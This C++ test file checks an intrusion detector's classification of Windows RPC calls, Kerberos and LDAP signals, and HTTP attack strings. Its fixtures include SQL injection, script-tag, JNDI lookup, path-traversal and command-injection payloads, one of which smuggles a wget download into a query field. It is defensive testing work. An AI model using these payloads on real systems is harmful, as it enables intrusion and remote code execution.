// SPDX-License-Identifier: MIT
// app/rpc_effect.hpp and app/injection.hpp: which remote calls count as what, which text tries to run as code, and what
// resembles both but is everyday use; and what a flow sums up of them (app/traffic.hpp).
#include <doctest/doctest.h>

#include <string>
#include <string_view>

#include <mldefender/core/app/injection.hpp>
#include <mldefender/core/app/rpc_effect.hpp>
#include <mldefender/core/app/traffic.hpp>

#include "app_samples.hpp"
#include "support/packets.hpp"

using namespace mldefender;
using namespace mldefender::test;

namespace {

int injections(std::string_view text) {
    return detail::app::count_injections({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()});
}

app_news read(app_traffic& t, const five_tuple& way, bytes payload, bool forward = true) {
    packet p = packet_of(forward ? way : way.reversed(), 0, static_cast<std::uint32_t>(payload.size()));
    p.payload = payload;
    return read_payload(t, p, forward);
}
constexpr five_tuple web = tuple_of(ip_protocol::tcp, 40000, 80);
constexpr five_tuple high_port = tuple_of(ip_protocol::tcp, 40000, 49200);

// A request of DCE/RPC: allocation hint, context, operation.
frame rpc_request(unsigned operation) { return rpc(0, frame{}.le32(0).le16(0).le16(operation)); }

}  // namespace

TEST_CASE("calls that start something, and their neighbours that only ask") {
    using enum rpc_interface;
    for (const std::uint16_t create_or_start : std::initializer_list<std::uint16_t>{12, 19, 24, 31}) {
        CHECK(effect_of(svcctl, create_or_start, mask_of(svcctl)) == rpc_effect::execution);
    }
    for (const std::uint16_t open_or_query : std::initializer_list<std::uint16_t>{0, 6, 14, 15, 16, 17}) {
        CHECK(effect_of(svcctl, open_or_query, mask_of(svcctl)) == rpc_effect::none);
    }
    CHECK(effect_of(itaskscheduler, 1, 0) == rpc_effect::execution);
    CHECK(effect_of(itaskscheduler, 7, 0) == rpc_effect::none);
    CHECK(effect_of(atsvc, 0, 0) == rpc_effect::execution);
}

TEST_CASE("WMI and automation share a connection: numbers mean what the interfaces seen say") {
    using enum rpc_interface;
    CHECK(effect_of(wmi, 24, mask_of(wmi)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 24, mask_of(wmi) | mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(wmi, 20, mask_of(wmi)) == rpc_effect::none);  // a query
    CHECK(effect_of(dcom, 6, mask_of(dcom)) == rpc_effect::execution);
    CHECK(effect_of(dcom, 6, mask_of(dcom) | mask_of(wmi)) == rpc_effect::none);  // WMI's log-in
    CHECK(effect_of(none, 24, 0) == rpc_effect::execution);                       // joined midway
    CHECK(effect_of(none, 23, 0) == rpc_effect::none);
}

TEST_CASE("an ordinary log-on to a domain counts only as a machine's log-in") {
    using enum rpc_interface;
    CHECK(effect_of(drsuapi, 0, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 12, 0) == rpc_effect::none);
    CHECK(effect_of(drsuapi, 3, 0) == rpc_effect::replication);
    CHECK(effect_of(epm, 3, 0) == rpc_effect::none);
    CHECK(effect_of(epm, 2, 0) == rpc_effect::enumeration);
    CHECK(effect_of(lsarpc, 76, 0) == rpc_effect::none);
    CHECK(effect_of(lsarpc, 43, 0) == rpc_effect::abuse);
    CHECK(effect_of(srvsvc, 15, 0) == rpc_effect::none);
    CHECK(effect_of(samr, 13, 0) == rpc_effect::enumeration);
    CHECK(effect_of(samr, 58, 0) == rpc_effect::abuse);
    CHECK(effect_of(netlogon, 26, 0) == rpc_effect::channel);
    CHECK(effect_of(netlogon, 45, 0) == rpc_effect::none);
    CHECK(effect_of(other, 12, 0) == rpc_effect::none);
}

TEST_CASE("calls that change, take or force something, beside those that monitor and print") {
    using enum rpc_interface;
    for (const std::uint16_t taken : std::initializer_list<std::uint16_t>{13, 20, 22, 24, 31}) {
        CHECK(effect_of(winreg, taken, 0) == rpc_effect::abuse);
    }
    for (const std::uint16_t read_only : std::initializer_list<std::uint16_t>{2, 3, 5, 15, 16, 17, 26}) {
        CHECK(effect_of(winreg, read_only, 0) == rpc_effect::none);
    }
    CHECK(effect_of(netdfs, 12, 0) == rpc_effect::abuse);
    CHECK(effect_of(netdfs, 4, 0) == rpc_effect::none);  // where a share really is
    CHECK(effect_of(fsrvp, 8, 0) == rpc_effect::abuse);
    CHECK(effect_of(initshutdown, 0, 0) == rpc_effect::abuse);
    CHECK(effect_of(initshutdown, 1, 0) == rpc_effect::none);  // a shutdown called off
    CHECK(effect_of(eventlog, 9, 0) == rpc_effect::abuse);
    CHECK(effect_of(eventlog, 7, 0) == rpc_effect::none);
    CHECK(effect_of(samr, 38, 0) == rpc_effect::abuse);
    CHECK(effect_of(samr, 31, 0) == rpc_effect::abuse);
    CHECK(effect_of(samr, 55, 0) == rpc_effect::none);  // a user's own new password
}

TEST_CASE("printing: notifications of a client that opened its printer, and those sent elsewhere") {
    using enum rpc_interface;
    CHECK(effect_of(spoolss, 65, 0, operation_bit(1)) == rpc_effect::abuse);
    CHECK(effect_of(spoolss, 62, 0, 0) == rpc_effect::abuse);
    CHECK(effect_of(spoolss, 65, 0, operation_bit(69) | operation_bit(8)) == rpc_effect::none);
    CHECK(effect_of(spoolss, 89, 0, operation_bit(69)) == rpc_effect::abuse);
    CHECK(effect_of(print_async, 39, 0) == rpc_effect::abuse);
    for (const std::uint16_t prints : std::initializer_list<std::uint16_t>{0, 9, 16, 20, 65}) {
        CHECK(effect_of(print_async, prints, 0) == rpc_effect::none);
    }
    CHECK(operation_bit(31) == operation_bit(200));
    CHECK(operation_bit(30) != operation_bit(31));
}

TEST_CASE("connections joined midway: numbers one interface has alone, numbers that go together") {
    constexpr std::uint32_t lookup = operation_bit(0) | operation_bit(12) | operation_bit(16);
    CHECK(effect_midway(43, 0, false, true) == rpc_effect::abuse);
    CHECK(effect_midway(43, 0, false, false) == rpc_effect::none);
    CHECK(effect_midway(42, 0, false, true) == rpc_effect::none);
    CHECK(effect_midway(3, lookup, false, false) == rpc_effect::replication);
    CHECK(effect_midway(3, operation_bit(0) | operation_bit(12), false, false) == rpc_effect::none);
    CHECK(effect_midway(12, lookup, false, false) == rpc_effect::none);
    constexpr std::uint32_t automation = operation_bit(3) | operation_bit(4) | operation_bit(5);
    CHECK(effect_midway(6, automation | operation_bit(6), true, false) == rpc_effect::execution);
    CHECK(effect_midway(6, automation, true, false) == rpc_effect::none);  // once: a log-in of WMI
    CHECK(effect_midway(6, automation | operation_bit(6), false, false) == rpc_effect::none);
    CHECK(effect_midway(6, automation | operation_bit(6) | operation_bit(20), true, false) == rpc_effect::none);
    CHECK(effect_midway(24, 0, true, false) == rpc_effect::execution);
}

TEST_CASE("clauses, tags, look-ups, climbing and commands are found, escaped or not") {
    CHECK(injections("/item?id=1%27+or+1%3D1") == 1);
    CHECK(injections("/item?id=1' and 'a'='a") == 1);
    CHECK(injections("/item?id=1'--") == 1);
    CHECK(injections("/item?id=-1+UNION+ALL+SELECT+name") == 1);
    CHECK(injections("/q?x=%3CScript%3Ealert(1)") == 1);
    CHECK(injections("name=%24%7Bjndi%3Aldap://a/b%7D") == 1);
    CHECK(injections("/q?x=${${lower:j}ndi:x}") >= 1);
    CHECK(injections("/show?file=../../../etc/passwd") == 1);
    CHECK(injections("/run?host=a;wget http://b/c") == 1);
    CHECK(injections("/run?host=a%7Cwhoami") == 1);
}

TEST_CASE("what people, pages and advertisements send is none") {
    CHECK(injections("") == 0);
    CHECK(injections("/search?q=rock+'n'+roll+and+blues") == 0);
    CHECK(injections("/search?q=trade+union+selection") == 0);
    CHECK(injections("/ad?price=${AUCTION_PRICE}&b=%7B%22a%22:[1,2]%7D") == 0);
    CHECK(injections("/../style.css") == 0);
    CHECK(injections("/a/../../b.png") == 0);
    CHECK(injections("/list?a=1;b=2;category=3") == 0);
    CHECK(injections("/x?html=%3Cb%3Ebold%3C/b%3E") == 0);
    CHECK(injections("/x?a=%") == 0);
    CHECK(injections("/x?a=%2") == 0);
    CHECK(injections("'") == 0);
    CHECK(injections("$") == 0);
    CHECK(injections("/x?long=" + std::string(600, 'a') + "' or 1=1") == 0);  // beyond what is looked at
}

TEST_CASE("a request counts for the interface bound before it") {
    app_traffic t;
    read(t, high_port, rpc_bind(svcctl_uuid));
    CHECK(t.rpc_bound == rpc_interface::svcctl);
    read(t, high_port, rpc_request(15));
    CHECK(t.rpc_executions == 0);
    read(t, high_port, rpc_request(12));
    read(t, high_port, rpc_request(19));
    CHECK(t.rpc_executions == 2);
    CHECK(t.rpc_abuses == 0);
}

TEST_CASE("machine log-ins are attempts; a row of them on one connection is abuse") {
    app_traffic t;
    t.rpc_bound = rpc_interface::netlogon;
    t.protocol = app_protocol::dcerpc;
    for (int i = 0; i < 9; ++i) CHECK(read(t, high_port, rpc_request(26)).attempts == 1);
    CHECK(t.attempts == 9);
    CHECK(t.rpc_abuses == 0);
    read(t, high_port, rpc_request(26));
    CHECK(t.rpc_channels == 10);
    CHECK(t.rpc_abuses == 1);
}

TEST_CASE("HTTP: what a program says about itself, as far as whole heads tell") {
    app_traffic t;
    read(t, web, text_of("GET /a HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Age"));
    CHECK(t.http_least_headers == 0);  // cut: nobody knows
    read(t, web, text_of("POST /a HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: tool\r\n\r\n"));
    CHECK(t.http_least_headers == 2);
    CHECK(t.http_agent_length == 4);
    CHECK(t.http_host_address);
    CHECK(t.http_posts == 1);
    read(t, web, text_of("GET /a HTTP/1.0\r\n\r\n"));
    CHECK(t.http_least_headers == 1);
    CHECK(t.http_injections == 0);
    read(t, web, text_of("GET /a?b=1'+or+1=1 HTTP/1.1\r\nHost: a\r\n\r\n"));
    CHECK(t.http_injections == 1);
    read(t, web, text_of("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://b}\r\n\r\n"));
    CHECK(t.http_injections == 2);
}

TEST_CASE("HTTP: a program is known by its first bytes behind the head") {
    app_traffic t;
    read(t, web, text_of("GET /a HTTP/1.1\r\nHost: a\r\n\r\n"));
    read(t, web, text_of("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nMZ......."), false);
    CHECK(t.http_programs == 1);
    read(t, web,
         text_of("HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n\x7f"
                 "ELF....."),
         false);
    CHECK(t.http_programs == 2);
    read(t, web, text_of("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nMZ"), false);
    read(t, web, text_of("HTTP/1.1 200 OK\r\nX: MZ\r\n\r\n<html>MZ"), false);
    read(t, web, text_of("HTTP/1.1 206 Partial Content\r\nContent-Length: 9\r\n\r\nMZ......."), false);
    CHECK(t.http_programs == 2);
}

TEST_CASE("ICMP: requests that tools send, in any packet of the flow") {
    app_traffic t;
    packet p = packet_of(tuple_of(ip_protocol::icmp, 0, 0), 0, 8);
    p.icmp_type = 8;
    (void)read_payload(t, p, true);
    CHECK_FALSE(t.icmp_odd);
    p.icmp_code = 3;
    (void)read_payload(t, p, true);
    CHECK(t.icmp_odd);
    app_traffic mask;
    p.icmp_type = 17;
    p.icmp_code = 0;
    (void)read_payload(mask, p, true);
    CHECK(mask.icmp_odd);
}

namespace {

constexpr five_tuple shares = tuple_of(ip_protocol::tcp, 40000, 445);
constexpr five_tuple tickets = tuple_of(ip_protocol::tcp, 40000, 88);
constexpr five_tuple searches = tuple_of(ip_protocol::tcp, 40000, 389);
constexpr five_tuple names_by_tcp = tuple_of(ip_protocol::tcp, 40000, 53);
constexpr std::uint8_t srvsvc_uuid[] = {0xc8, 0x4f, 0x32, 0x4b, 0x70, 0x16, 0xd3, 0x01,
                                        0x12, 0x78, 0x5a, 0x47, 0xbf, 0x6e, 0xe1, 0x88};
constexpr std::uint8_t epm_uuid[] = {0x08, 0x83, 0xaf, 0xe1, 0x1f, 0x5d, 0xc9, 0x11,
                                     0x91, 0xa4, 0x08, 0x00, 0x2b, 0x14, 0xa0, 0xfa};
constexpr std::uint8_t lsarpc_uuid[] = {0x78, 0x57, 0x34, 0x12, 0x34, 0x12, 0xcd, 0xab,
                                        0xef, 0x00, 0x01, 0x23, 0x45, 0x67, 0x89, 0xab};

// A pipe's message inside a write of SMB 2.
frame piped(const frame& message) {
    const auto length = static_cast<std::uint32_t>(message.size);
    return smb2(9, false, 0, frame{}.le16(49).le16(64 + 48).le32(length).zeros(40).add(message));
}
frame on_object(frame request) {
    request.data[3] |= 0x80;
    return request;
}
frame ticket_reply(unsigned ticket_etype, unsigned part_etype) {
    const auto encrypted = [](unsigned etype) { return ber(0x30, ber(0xa0, ber_int(etype))); };
    const frame ticket = ber(0x61, ber(0x30, ber(0xa3, encrypted(ticket_etype))));
    const frame head = join(ber(0xa0, ber_int(5)), ber(0xa1, ber_int(13)));
    return ber(0x6d, ber(0x30, join(head, join(ber(0xa5, ticket), ber(0xa6, encrypted(part_etype))))));
}

}  // namespace

TEST_CASE("shares and versions asked for add up by kind; a list is news") {
    app_traffic t;
    read(t, shares, smb2_tree_connect("\\\\192.0.2.7\\IPC$"));
    CHECK(t.smb_by_address);
    read(t, shares, piped(rpc_bind(srvsvc_uuid)));
    CHECK(read(t, shares, piped(rpc_request(15))).listing);
    CHECK(t.discovery == discovery_kind::shares);
    CHECK_FALSE(read(t, shares, piped(rpc_request(21))).listing);
    CHECK(t.discovery == (discovery_kind::shares | discovery_kind::server));
    CHECK_FALSE(read(t, shares, piped(rpc_request(16))).any());  // one share's own properties
    CHECK(t.rpc_enumerations == 0);
    CHECK(read(t, shares, piped(rpc_request(12))).listing);  // sessions
    CHECK(t.rpc_enumerations == 1);
}

TEST_CASE("endpoints asked for through file sharing, and hundreds of account numbers") {
    app_traffic pipe;
    read(pipe, shares, piped(rpc_bind(epm_uuid)));
    CHECK(read(pipe, shares, piped(rpc_request(3))).listing);
    CHECK(pipe.rpc_enumerations == 1);
    app_traffic port;
    read(port, tuple_of(ip_protocol::tcp, 40000, 135), rpc_bind(epm_uuid));
    CHECK_FALSE(read(port, tuple_of(ip_protocol::tcp, 40000, 135), rpc_request(3)).any());
    CHECK(port.rpc_enumerations == 0);
    app_traffic names;
    read(names, high_port, rpc_bind(lsarpc_uuid));
    read(names, high_port, rpc_request(76));
    CHECK(names.rpc_enumerations == 0);
    frame long_list = rpc_request(76);
    long_list.data[8] = 0xb8;  // 4280 bytes in this fragment
    long_list.data[9] = 0x10;
    read(names, high_port, long_list);
    CHECK(names.rpc_enumerations == 1);
}

TEST_CASE("calls of a connection joined midway add up until an interface is named") {
    app_traffic directory;
    for (const unsigned operation : {0U, 16U, 12U, 0U}) read(directory, high_port, rpc_request(operation));
    CHECK(directory.rpc_replications == 0);
    read(directory, high_port, rpc_request(3));
    CHECK(directory.rpc_replications == 1);
    read(directory, high_port, rpc_bind(lsarpc_uuid));
    CHECK(directory.rpc_operations == 0);
    read(directory, high_port, rpc_request(3));
    CHECK(directory.rpc_replications == 1);
    app_traffic automation;
    for (const unsigned operation : {5U, 6U, 5U}) read(automation, high_port, on_object(rpc_request(operation)));
    CHECK(automation.rpc_executions == 0);
    read(automation, high_port, on_object(rpc_request(6)));
    CHECK(automation.rpc_executions == 1);
    app_traffic secrets;
    read(secrets, shares, piped(rpc_request(43)));
    CHECK(secrets.rpc_abuses == 1);
}

TEST_CASE("tickets: what is asked for and what is given, in one conversation") {
    app_traffic t;
    read(t, tickets, kdc_request(12, "MSSQLSvc", 23, false));
    CHECK(t.kerberos == kerberos_sign::weak_asked);
    CHECK(read(t, tickets, ticket_reply(23, 18), false).weak_ticket);
    CHECK(t.kerberos == (kerberos_sign::weak_asked | kerberos_sign::aes_used));
    app_traffic good;
    read(good, tickets, kdc_request(12, "HTTP", 18, false));
    CHECK_FALSE(read(good, tickets, ticket_reply(18, 18), false).any());
    CHECK(good.kerberos == kerberos_sign::aes_used);
    app_traffic old;  // a domain that has nothing else
    read(old, tickets, kdc_request(12, "HTTP", 23, false));
    CHECK_FALSE(read(old, tickets, ticket_reply(23, 23), false).any());
    CHECK(old.kerberos == kerberos_sign::weak_asked);
}

TEST_CASE("log-ins that fall back to old encryption are news") {
    const auto login = [](unsigned stamp) {
        const frame strings = ber(0xa1, ber(0x30, ber_text(0x1b, "alice")));
        const frame stamped = ber(0x30, join(ber(0xa0, ber_int(stamp)), ber(0xa2, ber_text(4, "x"))));
        const frame padata = ber(0x30, ber(0x30, join(ber(0xa1, ber_int(2)), ber(0xa2, ber(4, stamped)))));
        const frame etypes = ber(0xa8, ber(0x30, join(ber_int(18), ber_int(23))));
        const frame body = ber(0xa4, ber(0x30, join(ber(0xa1, ber(0x30, strings)), etypes)));
        const frame fields = join(join(ber(0xa1, ber_int(5)), ber(0xa2, ber_int(10))), ber(0xa3, padata));
        return ber(0x6a, ber(0x30, join(fields, body)));
    };
    app_traffic t;
    CHECK(read(t, tickets, login(23)).weak_login);
    CHECK_FALSE(read(t, tickets, login(18)).weak_login);
    CHECK(t.kerberos == 0);
    app_news only;
    CHECK_FALSE(only.any());
    only.weak_login = true;
    CHECK(only.any());
}

TEST_CASE("directory searches are counted by what they look for") {
    const auto search = [](const frame& filter) {
        const frame limits = join(join(ber_int(0, 0x0a), ber_int(0)), join(ber_int(0), ber_int(0, 1)));
        return ldap(0x63, join(join(ber_text(4, "DC=example"), ber_int(2, 0x0a)), join(limits, filter)));
    };
    app_traffic t;
    read(t, searches, search(ber_text(0x87, "servicePrincipalName")));
    read(t, searches, search(ber_text(0x87, "objectClass")));
    read(t, searches, search(ber_text(0x87, "mail")));
    CHECK(t.ldap_probes == 1);
    CHECK(t.ldap_sweeps == 1);
    for (int i = 0; i < 300; ++i) read(t, searches, search(ber_text(0x87, "servicePrincipalName")));
    CHECK(t.ldap_probes == 255);
}

TEST_CASE("DNS answers that leave no room count, unless they hand over a zone") {
    const auto answer = [](unsigned type, unsigned length) {
        return frame{}.be16(length).add(dns_query("host.example.org", type, 0x8180, 1)).zeros(500);
    };
    const auto oversized = [&](unsigned type, unsigned length) {
        app_traffic t;
        read(t, names_by_tcp, answer(type, length), false);
        return t.dns_oversized;
    };
    CHECK(oversized(24, 65000) == 1);
    CHECK(oversized(16, 60000) == 1);
    CHECK(oversized(24, 59999) == 0);
    CHECK(oversized(252, 65000) == 0);
    CHECK(oversized(251, 65000) == 0);
    app_traffic asked;
    read(asked, names_by_tcp, frame{}.be16(65000).add(dns_query("host.example.org", 24)).zeros(500));
    CHECK(asked.dns_oversized == 0);
}
